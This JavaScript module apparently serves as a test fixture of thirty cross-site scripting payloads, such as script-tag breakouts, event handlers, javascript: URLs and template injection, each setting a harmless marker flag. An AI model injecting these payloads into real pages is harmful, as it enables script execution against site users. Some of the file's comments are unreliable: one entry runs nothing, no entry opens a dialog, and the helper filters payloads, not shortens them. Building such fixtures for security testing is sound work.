// Thirty texts that run somewhere when a page lets them: each sets `globalThis.ran`, or opens a dialog.

const run = "globalThis.ran=1";

export const payloads = [
  `<script>${run}</script>`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `--><script>${run}</script>`,
  `]]><script>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `"><img src=x onerror=${run}>`,
  `<img src="x\`\`onerror=${run}">`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<math><mtext><img src=x onerror=${run}></mtext></math>`,
  `<body onload=${run}>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<iframe src="javascript:parent.ran=1"></iframe>`,
  `<a href="javascript:${run}">x</a>`,
  `javascript:${run}`,
  `" autofocus onfocus=${run} x="`,
  `' autofocus onfocus=${run} x='`,
  `" onmouseover=${run} style="position:fixed;inset:0" x="`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<object data="javascript:${run}"></object>`,
  `<style>@import 'data:text/css,*{}';</style><link rel=stylesheet href="data:text/css,*{x:1}">`,
  `{{constructor.constructor('${run}')()}}\${${run}}`,
  `\u003cimg src=x onerror=${run}\u003e&lt;img src=x onerror=${run}&gt;&#60;svg onload=${run}&#62;`,
];

/** A payload shortened to what a field takes, without losing its point: the shortest ones stay whole. */
export const fitting = (length) => payloads.filter((payload) => [...payload].length <= length);
